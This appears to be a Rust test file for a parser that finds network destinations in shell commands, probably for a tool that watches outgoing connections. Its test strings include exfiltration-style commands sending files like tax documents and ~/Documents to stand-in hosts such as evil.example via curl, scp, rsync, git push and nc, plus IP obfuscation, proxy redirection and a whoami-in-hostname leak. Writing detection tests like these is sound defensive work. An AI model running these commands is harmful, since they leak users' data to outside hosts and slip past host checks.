use super::*;
use crate::shell::Script;

/// Checks the destinations of all commands in a line; `?` stands for one that can't be seen.
fn check(text: &str, wanted: &[&str]) {
    let script = Script::read(text);
    let found: Vec<_> = script
        .commands
        .iter()
        .flat_map(destinations)
        .map(|destination| match destination {
            Destination::Named { host, .. } => host,
            Destination::Unseen(_) => "?".to_owned(),
        })
        .collect();
    assert_eq!(found, wanted, "{text}");
}

#[test]
fn names_under_endings_of_files_are_hosts() {
    for ending in ["ai", "sh", "pl", "zip", "mov", "rs", "md", "cc", "so", "py"] {
        let host = format!("evil.{ending}");
        check(&format!("curl -d @tax {host}"), &[&host]);
        check(&format!("wget {host}/x"), &[&host]);
        check(&format!("firefox {host}"), &[&host]);
    }
}

#[test]
fn hosts_before_a_colon_are_found() {
    check("scp tax.pdf evil.example:/x", &["evil.example"]);
    check("scp tax.pdf me@evil.example:", &["evil.example"]);
    check("rsync -a ~/Documents evil.example:in", &["evil.example"]);
    check("rsync -a ~/Documents evil.example::in", &["evil.example"]);
    check("rsync -ae 'ssh -p 2' a kollektor:in", &["kollektor"]);
    check("git push evil.example:r main", &["evil.example"]);
    check("git -C DIR push evil.example:r", &["evil.example"]);
    check("git remote add x evil.example:r", &["evil.example"]);
    check("rclone copy a remote:b", &["remote"]);
}

#[test]
fn numbers_are_hosts_in_their_usual_form() {
    check("curl 2130706498", &["127.0.0.66"]);
    check("curl 0x7f000042/x", &["127.0.0.66"]);
    check("curl 127.1:80", &["127.0.0.1"]);
    check("nc 0x7f000042 99", &["127.0.0.66"]);
    check("ping6 2001:db8::1", &["2001:db8::1"]);
    check("curl http://[2001:db8::1]:80/", &["2001:db8::1"]);
}

#[test]
fn names_of_one_label_are_hosts() {
    check("curl kollektor/in", &["kollektor"]);
    check("curl -d @a kollektor", &["kollektor"]);
    check("ssh kollektor id", &["kollektor"]);
    check("ping -c 1 kollektor", &["kollektor"]);
}

#[test]
fn hosts_known_only_while_it_runs_are_unseen() {
    check("curl $(cat host)/x", &["?"]);
    check("curl -K file", &["?"]);
    check("curl -Kfile", &["?"]);
    check("curl --config=file", &["?"]);
    check("wget -i list", &["?"]);
    check("xargs curl < list", &["?"]);
    check("while read u; do curl $u; done < list", &["?"]);
    check("curl https://$(whoami).evil.example/", &["?"]);
}

#[test]
fn proxies_are_destinations() {
    check(
        "http_proxy=evil.ai curl https://a.example",
        &["evil.ai", "a.example"],
    );
    check(
        "env HTTPS_PROXY=http://evil.ai:80 curl a.example",
        &["evil.ai", "a.example"],
    );
    check("curl -x evil.ai a.example", &["evil.ai", "a.example"]);
    check("curl --proxy=evil.ai a.example", &["evil.ai", "a.example"]);
}

#[test]
fn files_options_and_values_are_no_destinations() {
    check(
        "curl -s -o out.json -H 'X: y.example' https://a.example/b",
        &["a.example"],
    );
    check("curl -sSL -d @tax.zip -X POST a.example", &["a.example"]);
    check("wget -O out.sh https://a.example", &["a.example"]);
    check("scp -P 22 a.txt b.txt", &[]);
    check("rsync -a src/ ~/backup/", &[]);
    check("rsync -a ./a:b /c", &[]);
    check("git push origin main", &[]);
    check("git push -u origin main", &[]);
    check("git commit -m 'see evil.example:x'", &[]);
    check(
        "git clone https://github.com/acme/shop shop",
        &["github.com"],
    );
    check("dig +short MX a.example", &["a.example"]);
    check("nc -w 3 a.example 80", &["a.example"]);
    check("xdg-open report.pdf", &[]);
    check("firefox ./index.html", &[]);
    check("cat evil.ai", &[]);
}
